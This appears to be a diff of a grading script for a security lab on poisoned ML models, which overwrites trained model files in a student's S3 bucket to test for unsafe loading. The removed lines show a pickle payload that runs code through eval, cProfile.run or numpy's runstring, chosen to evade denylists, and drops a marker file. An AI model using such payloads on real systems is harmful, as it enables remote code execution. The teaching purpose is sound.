@@ -2,13 +2,12 @@
 
 from __future__ import annotations
 
-import cProfile
 import json
-import pickle
 import secrets
 import sys
-from collections.abc import Callable
+from collections.abc import Callable, Mapping
 from contextlib import suppress
+from datetime import UTC, datetime
 from functools import partial
 from pathlib import Path
 from typing import Any
@@ -16,6 +15,8 @@ from typing import Any
 from scripts.aws.credentials import Credentials
 from scripts.console import UserError
 from scripts.labs import common, servers
+from scripts.labs.catalogue.lab06_poisoned_model import poison
+from scripts.labs.catalogue.lab06_poisoned_model.poison import Poison
 from scripts.labs.running import LabRun
 from scripts.labs.trial import Refused, Trial, first_that_works, refusal_of
 
@@ -86,11 +87,11 @@ def _predict(run: LabRun, x: float) -> float:
         raise UserError(f"The server answers {status}", why=text[:300]) from None
 
 
-def _objects(run: LabRun) -> dict[str, bytes]:
-    """Every object of the bucket."""
+def _objects(run: LabRun, since: datetime | None = None) -> dict[str, bytes]:
+    """Every object of the bucket that was written since then."""
     s3, bucket = run.administrator("s3"), common.output(run, "bucket")
     listed = s3.list_objects_v2(Bucket=bucket).get("Contents", ())
-    keys = [one["Key"] for one in listed]
+    keys = [one["Key"] for one in listed if since is None or one["LastModified"] >= since]
     return {key: s3.get_object(Bucket=bucket, Key=key)["Body"].read() for key in keys}
 
 
@@ -111,40 +112,37 @@ def _overwrite(run: LabRun, content: Callable[[str], bytes | None]) -> list[str]
     return written
 
 
-class _Marker:
-    """A pickle that leaves a file, so that it is seen wherever it is loaded."""
-
-    def __init__(self, path: Path, by: Callable[..., Any], *more: Any) -> None:
-        text = f"open({str(path)!r}, 'w').close() or (lambda x: 0)"
-        self._call = by, (text, *more)
-
-    def __reduce__(self) -> tuple[Any, ...]:
-        return self._call
-
-
-def _poisons(run: LabRun) -> list[tuple[Any, ...]]:
-    """Functions that run a text, and what else they are given.
-
-    Where the student's files unpickle at all there are some that a list of bad names forgets, and
-    one in a package that models need.
-    """
-    texts = [path.read_text(errors="replace") for path in run.folder.glob("*.py")]
-    if not any("pickle" in text.replace("allow_pickle=False", "") for text in texts):
-        return [(eval,)]
-    from numpy.testing._private.utils import runstring
-
-    return [(eval,), (cProfile.run,), (runstring, {})]
-
-
 def _poisoned_and_promoted(run: LabRun) -> str:
-    return first_that_works(partial(_poisoned, run, *by) for by in _poisons(run))
-
-
-def _poisoned(run: LabRun, *by: Any) -> str:
+    """Poison each file that training may write: in its own format, then as a pickle."""
+    began = datetime.now(UTC).replace(microsecond=0)
     _pipeline(run, slope=2)
+    honest = {key: body for key, body in _objects(run).items() if key != DATA}
     marker = run.home / f"executed-{secrets.token_hex(6)}"
-    poison = pickle.dumps(_Marker(marker, *by))
-    written = _overwrite(run, lambda key: None if key == DATA else poison)
+    own = {
+        key: poison.poisons(body, marker)
+        for key, body in _objects(run, began).items()
+        if key != DATA
+    }
+    ways = [
+        {key: some[number % len(some)] for key, some in own.items() if some}
+        for number in range(max(map(len, own.values()), default=0))
+    ]
+    ways.append(dict.fromkeys(honest, poison.pickles(marker)[-1]))
+    try:
+        return first_that_works(partial(_poisoned, run, marker, way) for way in ways)
+    except Refused:
+        unknown = {key: honest[key] for key, some in own.items() if not some}
+        for key in _overwrite(run, unknown.get) if unknown else ():
+            raise UserError(
+                f"The check knows no poison for {key}, so nobody has tried it",
+                why=f"the file begins with {honest[key][:12]!r}: no pickle, zip file (skops), "
+                ".npy, JSON or text",
+            ) from None
+        raise
+
+
+def _poisoned(run: LabRun, marker: Path, way: Mapping[str, Poison]) -> str:
+    written = _overwrite(run, lambda key: way[key].body if key in way else None)
     said = ""
     for step in (
         lambda: _predict(run, 3),
@@ -155,10 +153,11 @@ def _poisoned(run: LabRun, *by: Any) -> str:
             step()
         except UserError as failure:
             said = said or f"{failure}: {failure.why}"
+    kinds = ", ".join(sorted({f"{way[key].kind} in {key}" for key in written}))
     if marker.exists():
         marker.unlink()
-        return f"code of a pickle ran that was written to one of {', '.join(written)}"
-    raise Refused(said or "no code ran, and the predictions are those of before")
+        return f"code ran that was written: {kinds}"
+    raise Refused(f"{kinds or 'nothing may be written'}: {said or 'no code ran'}")
 
 
 def _unpromoted(run: LabRun) -> str:
@@ -190,7 +189,8 @@ def _new_champion(run: LabRun) -> str:
 
 
 ATTACKS = [
-    Trial("poisoned pickles in place of all that training may write", _poisoned_and_promoted),
+    Trial("poisoned files in place of all that training may write", _poisoned_and_promoted),
     Trial("an honest model of training's that nobody promoted", _unpromoted),
+    common.trusts(REPOSITORY, {TRAIN: {}, PROMOTE: {"environment": "promote"}}),
 ]
 NEEDS = [Trial("a new model is trained, promoted, and predicts", _new_champion)]
